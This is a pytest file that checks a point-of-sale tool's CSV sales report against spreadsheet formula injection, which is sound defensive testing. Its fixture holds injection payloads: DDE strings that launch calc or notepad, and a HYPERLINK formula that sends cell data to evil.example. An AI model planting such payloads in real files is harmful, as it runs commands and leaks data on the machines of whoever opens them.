"""`tui-pos report sales --csv`: a name that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from conftest import run_cli, sell_at
from tui_pos.cli.sales_report import write_csv
from tui_pos.config import load_config
from tui_pos.bootstrap.shop import import_catalog_text
from tui_pos.domain.tender import Tender
from tui_pos.app.till import Till

EVIL = {  # barcode -> (name, department)
    "6900000077701": ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")"),
    "6900000077702": ("+1+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "6900000077703": ("-2+3+cmd|' /C calc'!A0", "Plain department"),
    "6900000077704": ("@SUM(1+9)", "-1 sale items"),
}
NUMERIC = re.compile(r"-?\d+(\.\d+)?")


def evil_shop(shop_dir: Path) -> Path:
    """The demo shop with products named like formulas, each sold once, one refunded."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["barcode", "name", "price", "tax", "department"])
    writer.writerows([code, name, "2.50", "A", department] for code, (name, department) in EVIL.items())
    config = load_config(shop_dir)
    import_catalog_text(config, out.getvalue())
    till = Till.open(config, cashier="demo")
    try:
        sold = sell_at(till, "2026-03-01T02:00:00.000+00:00", dict.fromkeys(EVIL, 1), [Tender("cash", 1000)])
        till.clock = lambda: "2026-03-01T03:00:00.000+00:00"
        till.refund(sold.receipt, {1: 1}, "Damaged", till.approve("manager", "9999", "refund"))
    finally:
        till.close()
    return shop_dir


def test_formula_names_are_text_and_negative_amounts_stay_numbers(shop_dir, tmp_path):
    evil_shop(shop_dir)
    target = tmp_path / "report.csv"
    run_cli(shop_dir, "report", "sales", "--day", "2026-03-01", "--csv", str(target), env={"TZ": "UTC"})
    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
    for row in rows:
        for column in ("section", "key", "name"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
        for column in ("count", "quantity", "amount", "tax"):
            assert row[column] == "" or NUMERIC.fullmatch(row[column]), row
    products = {r["key"]: r["name"] for r in rows if r["section"] == "top_by_amount"}
    refunded = "6900000077701"  # sold and returned: nothing left of it to rank by amount
    assert products == {code: "'" + name for code, (name, _) in EVIL.items() if code != refunded}
    departments = {r["key"]: r["name"] for r in rows if r["section"] == "departments"}
    assert departments["'" + EVIL["6900000077701"][1]] == "'" + EVIL["6900000077701"][1]
    assert departments["'" + EVIL["6900000077704"][1]] == "'" + EVIL["6900000077704"][1]
    assert departments["Plain department"] == "Plain department"
    refunds = next(r for r in rows if (r["section"], r["key"]) == ("totals", "refunds"))
    assert (refunds["count"], refunds["amount"]) == ("1", "-2.50")  # a negative number, not text
    assert refunds["tax"].startswith("-") and NUMERIC.fullmatch(refunds["tax"])


def test_csv_to_standard_output_is_neutralised_too(shop_dir):
    evil_shop(shop_dir)
    out = run_cli(shop_dir, "report", "sales", "--day", "2026-03-01", "--csv", env={"TZ": "UTC"}).stdout
    names = [r["name"] for r in csv.DictReader(io.StringIO(out)) if r["section"] == "top_by_quantity"]
    assert sorted(names) == sorted("'" + name for code, (name, _) in EVIL.items() if code != "6900000077701")


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-x", "@x", "\tx", "\rx", "\r\n=1+1", "-3.50"])
def test_every_text_cell_is_neutralised_and_numbers_in_numeric_columns_are_not(tmp_path, cell):
    target = tmp_path / "out.csv"
    assert write_csv(str(target), [("name", "amount"), (cell, "-3.50"), ("ok", cell)], numeric=("amount",)) == 2
    rows = list(csv.reader(target.open(encoding="utf-8", newline="")))
    assert rows[1] == ["'" + cell, "-3.50"]
    assert rows[2] == ["ok", cell if cell == "-3.50" else "'" + cell]
    assert len(rows) == 3  # a CR inside a cell starts no row of its own


def test_a_carriage_return_inside_a_name_starts_no_row(tmp_path):
    target = tmp_path / "out.csv"
    write_csv(str(target), [("name", "amount"), ("a\r=1+1", "1.00"), ("b\nc", "2.00")], numeric=("amount",))
    assert list(csv.reader(target.open(encoding="utf-8", newline=""))) == [
        ["name", "amount"], ["a\r=1+1", "1.00"], ["b\nc", "2.00"]]
